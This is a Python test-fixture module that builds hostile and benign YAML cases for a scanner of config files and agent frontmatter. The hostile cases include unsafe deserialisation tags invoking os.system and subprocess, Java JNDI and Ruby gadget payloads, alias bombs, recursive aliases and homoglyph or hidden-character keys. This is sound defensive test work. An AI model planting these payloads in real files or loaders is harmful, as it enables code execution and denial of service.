# ruff: noqa: E501, RUF001 - data, in the scripts that people write
"""YAML that attacks its reader, and YAML that looks like it and does not: made at test time from mechanisms.

Each attack is put into each place that YAML is read from: a file, a nested value, frontmatter. The negatives
are what people write every day: manifests of several documents, anchors, tags of applications, long texts,
other languages.
"""

from __future__ import annotations

import random
from typing import NamedTuple

import yaml


class Case(NamedTuple):
    """A file; `kind` is empty where nothing is wrong with it."""

    kind: str
    path: str
    text: str


LANGUAGES = (
    "!!python/object/apply:subprocess.check_output [[id]]",
    "!!python/object/new:os.system [id]",
    "!!python/module:antigravity ''",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://x.invalid/o'}",
    "!ruby/object:Gem::Installer {i: x}",
    "!ruby/struct:Proc {}",
    "!php/object 'O:1:x'",
    "!<tag:yaml.org,2002:python/object/apply:os.system> [id]",
    "!!js/function 'function () { return 1 }'",
    "!!perl/hash:Net::FTP {}",
)
ALIKE = {"description": "d\u0435scription", "tools": "t\u043eols", "model": "m\u043edel", "name": "n\u0430me",
         "run": "\u0433un", "permissions": "\u0440ermissions", "command": "\u0441ommand"}  # fmt: skip
HIDDEN = ("\u202e", "\u2066", "\u200b", "\u2060", "\U000e0041", "\ufeff")


def bomb(levels: int, width: int) -> str:
    """Aliases of aliases."""
    above = (f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * width)}]\n" for level in range(1, levels))
    return "".join(["a0: &a0 [x, x]\n", *above])


def front(text: str) -> str:
    return f"---\nname: it\n{text}---\n\n# It\n"


def positives() -> list[Case]:
    found = []
    for number, value in enumerate(LANGUAGES):
        found.append(Case("tag", f"conf/{number}.yml", f"a:\n  - b: {value}\n"))
        found.append(Case("tag", f"skills/s{number}/SKILL.md", front(f"extra: {value}\n")))
    found += [
        Case("bomb", "a.yml", bomb(10, 9)),
        Case("bomb", "b.yaml", bomb(25, 2).replace("x, x", "lol, lol")),
        Case("bomb", "agents/a.md", front(bomb(9, 10))),
        Case("bomb", "map.yml", "a: &a {k: v}\n" + "".join(
            f"b{n}: &b{n} {{l: *{'a' if not n else f'b{n - 1}'}, r: *{'a' if not n else f'b{n - 1}'}}}\n"
            for n in range(20))),
        Case("recursion", "r.yml", "a: &a [*a]\n"),
        Case("recursion", "r2.yml", "a: &a\n  b: {c: [1, *a]}\n"),
        Case("recursion", "commands/c.md", front("x: &x {y: *x}\n")),
    ]  # fmt: skip
    for key, value in (("tools", "Read"), ("model", "opus"), ("permissions", "write-all"), ("run", "id")):
        found.append(Case("duplicate", f"d-{key}.yml", f"a:\n  {key}: none\n  b: 1\n  {key}: {value}\n"))
        found.append(Case("duplicate", f"commands/{key}.md", front(f"{key}: none\n{key}: {value}\n")))
    found.append(Case("duplicate", "q.yml", "'on': 1\non: 2\n"))
    for number, (key, alike) in enumerate(ALIKE.items()):
        found.append(Case("homoglyph", f"h{number}.yml", f"{key}: 1\n{alike}: 2\n"))
        found.append(Case("homoglyph", f"agents/h{number}.md", front(f"{alike}: evil\n")))
    for number, char in enumerate(HIDDEN):
        found.append(Case("hidden", f"k{number}.yml", f'"na{char}me": 1\n'))
        found.append(Case("hidden", f"agents/v{number}.md", front(f'description: "safe{char} text"\n')))
    found += [
        Case("depth", "flow.yml", "[" * 5_000 + "]" * 5_000 + "\n"),
        Case("depth", "deep.yml", "".join(f"{' ' * n}a:\n" for n in range(150))),
        Case("depth", "flow.yml", "[" * 200 + "]" * 200),
        Case("documents", ".github/workflows/ci.yml", "on: push\njobs: {}\n---\non: pull_request_target\n"),
        Case("documents", "action.yml", "name: a\n---\nname: b\n"),
        Case("merge", "agents/m.md", front("base: &b {tools: Bash}\nmore:\n  <<: *b\n")),
        Case("merge", "commands/m.md", front("<<: {tools: Bash}\n")),
        Case("proto", "p.yml", "a:\n  __proto__: {admin: true}\n"),
        Case("proto", "agents/p.md", front("__proto__: {x: 1}\n")),
        Case("long", "agents/l.md", front(f"description: {'word ' * 6000}\n")),
        Case("tag", "t.yml", "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]\n"),
    ]
    return found


def negatives(seed: int = 5) -> list[Case]:
    rand = random.Random(seed)
    words = ["build", "test", "deploy", "service", "image", "port", "volume", "agent", "skill", "prompt"]
    found = [
        Case("", "k8s.yml", "kind: A\n---\nkind: B\n---\nkind: C\n"),
        Case("", "compose.yml", "x-base: &base\n  image: a\nservices:\n  a:\n    <<: *base\n  b:\n    <<: *base\n"),
        Case("", "cfn.yml", "R:\n  A: !Ref B\n  C: !Sub '${D}'\n  E: !GetAtt F.G\n  H: !If [a, !Ref B, c]\n"),
        Case("", ".gitlab-ci.yml", "a:\n  script: [!reference [.setup, script]]\n"),
        Case("", "mkdocs.yml", "plugins:\n  - x: {f: !!python/name:material.emoji.twemoji '', g: !ENV [A, b]}\n"),
        Case("", "ha.yml", "password: !secret it\nother: !include other.yml\n"),
        Case("", "typed.yml", "a: !!str 1\nb: !!int '2'\nc: !!set {x, y}\nd: !!binary aGk=\ne: !!timestamp 2020-01-01\n"),
        Case("", "norway.yml", "countries: [no, se, dk]\nversion: 1.10\non: true\n"),
        Case("", "emoji.yml", "name: \U0001f468\u200d\U0001f469\u200d\U0001f467 family \u2764\ufe0f\n"),
        Case("", "agents/ru.md", front("описание: проверяет ссылки\nимя: помощник\n")),
        Case("", "el.yml", "όνομα: τιμή\nκλειδί: άλλο\n"),
        Case("", "fa.yml", "نام: می\u200cخواهم\n"),
        Case("", "zh.yml", "名称: 测试\n描述: 这是一个测试\n"),
        Case("", "umlaut.yml", "größe: 1\nname: Jürgen\nnaïve: ja\n"),
        Case("", "empty.yml", ""),
        Case("", "comment.yml", "# !!python/object:os.system\na: '!!python/object/apply:os.system'\n"),
        Case("", "doc.md", "# Attacks\n\n```yaml\na: !!python/object/apply:os.system [id]\n```\n"),
        Case("", "agents/sec.md", front("description: Finds !!python/object tags and alias bombs in YAML.\n")),
        Case("", "dup-in-other.yml", "a: {name: 1}\nb: {name: 2}\nc: [{name: 1}, {name: 1}]\n"),
        Case("", "anchors.yml", "a: &a [1, 2, 3]\n" + "".join(f"b{n}: *a\n" for n in range(200))),
        Case("", "reused.yml", "a: &x 1\nb: *x\nc: &x 2\nd: *x\n"),
        Case("", "block.yml", "run: |\n" + "".join(f"  line {n}: value\n" for n in range(2000))),
        Case("", "cert.yml", f"ca: {'QUJD' * 3000}\n"),
        Case("", "broken.yml", "a: [1\nb: }\n"),
        Case("", "helm.yml", "a: {{ .Values.a }}\n{{- if .b }}\nc: 1\n{{- end }}\n"),
        Case("", "merge.yml", "b: &b {x: 1}\nc: &c {y: 2}\nd:\n  <<: [*b, *c]\n  z: 3\n"),
        Case("", "yaml12.yml", "%YAML 1.2\n---\na: 1\n"),
        Case("", "keys.yml", "1: a\n1.0: b\ntrue: c\nnull: d\n'': e\n"),
        Case("", ".github/workflows/one.yml", "---\nname: ci\non: push\njobs:\n  a: {steps: [{run: 'echo ---'}]}\n...\n"),
    ]  # fmt: skip
    for number in range(20):
        tree = {f"{rand.choice(words)}-{n}": {rand.choice(words): [n, rand.choice(words)]} for n in range(30)}
        found.append(Case("", f"plain/{number}.yml", yaml.safe_dump(tree, allow_unicode=True)))
    return found
